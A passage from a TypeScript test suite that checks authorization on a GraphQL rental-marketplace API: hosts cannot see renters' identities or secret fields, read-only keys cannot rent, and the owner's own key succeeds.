    it(`the contracts on the victim's machine, by ${caller}, are its host's only`, async () => {
      const response = JSON.stringify(await app.gql(CONTRACTS, {}, callers[caller]));
      const mayRead = permissionOf(caller) !== undefined;
      expect(response.includes(`"${contractOnVictimMachine}"`), response).toBe(mayRead);
      expect(response).not.toContain(victim.email);
    });
  }

  it("a host sees the victim's rental on its machine by its terms, never who rents it or what it runs", async () => {
    const response = await app.gql(CONTRACTS, {}, callers["attacker account key"]);
    expect(response.errors).toBeUndefined();
    const nodes = response.data.myMachines.nodes.flatMap((m: { contracts: { edges: { node: { instanceId: string } }[] } }) => m.contracts.edges.map((e) => e.node));
    expect(nodes.map((node: { instanceId: string }) => node.instanceId).sort()).toEqual([ids.instance, ids.bidInstance].sort());
    const text = JSON.stringify(response);
    expect(text).not.toContain(victim.email);
    expect(text).not.toContain(VICTIM_BID_LABEL);
    expect(text).not.toContain(`"${victim.userId}"`);
    // The contract type has no field for the renter, its label, image, environment or keys.
    for (const field of ["clientId", "client", "label", "env", "image", "onstart", "sshKeys", "connection", "apiKey"]) {
      const refused = await app.gql(`{ myMachines { nodes { contracts { edges { node { ${field} } } } } } }`, {}, callers["attacker account key"]);
      expect(refused.errors?.[0]?.message, field).toMatch(/Cannot query field/);
    }
  });

  it("a read-only key lists the victim's things and cannot rent", async () => {
    const readOnly = callers["victim READ key"];
    const listed = JSON.stringify(await app.gql("{ instances(first: 50) { edges { node { id } } } }", {}, readOnly));
    expect(listed).toContain(ids.instance);
    expect(JSON.stringify(await app.gql(listings.find((q) => q.includes("myMachines"))!, {}, readOnly))).toContain(ids.machine);
    const rent = operations.find((o) => o.name === "createInstance")!;
    const before = await databaseSnapshot();
    const refused = await app.gql(rent.document, rent.variables(), readOnly);
    expect(refused.data.createInstance).toMatchObject({ __typename: "ForbiddenError", code: "FORBIDDEN" });
    expect(await databaseSnapshot()).toBe(before);
  });

  it("the victim's own account key does succeed (the matrix is not vacuous)", async () => {
    const response = await app.gql(operations.find((o) => o.name === "labelInstance")!.document, { id: ids.instance }, victim.key);
    expect(response.data.labelInstance.__typename).toBe("MutationLabelInstanceSuccess");
    const listed = JSON.stringify(await app.gql(listings.find((q) => q.includes("myMachines"))!, {}, victim.key));
    expect(listed).toContain(ids.machine);
    const invoices = JSON.stringify(await app.gql(listings.find((q) => q.includes("invoices"))!, {}, victim.key));
    expect(invoices).toContain(VICTIM_CREDIT);
    const bids = JSON.stringify(await app.gql(listings.find((q) => q.includes("bids"))!, {}, victim.key));
    expect(bids).toContain(ids.bid);
    expect(bids).toContain(VICTIM_BID_LABEL);
    const bid = await app.gql(VICTIM_BID, { bid: ids.bid }, victim.key);
    expect(bid).toMatchObject({ data: { node: { id: ids.bid, instance: { label: VICTIM_BID_LABEL } }, nodes: [{ id: ids.bid }] } });
    const throughInstance = await app.gql(VICTIM_BID_INSTANCE, { instance: ids.bidInstance }, victim.key);
    expect(throughInstance).toMatchObject({ data: { instance: { bid: { id: ids.bid }, bidHistory: [{ price: "0.50" }] } } });
    const asNode = await app.gql(VICTIM_BID_NODE, { instance: ids.bidInstance }, victim.key);
    expect(asNode).toMatchObject({ data: { label: { label: VICTIM_BID_LABEL }, bid: { bid: { standing: null } }, history: { bidHistory: [{ price: "0.50" }] } } });
  });
});
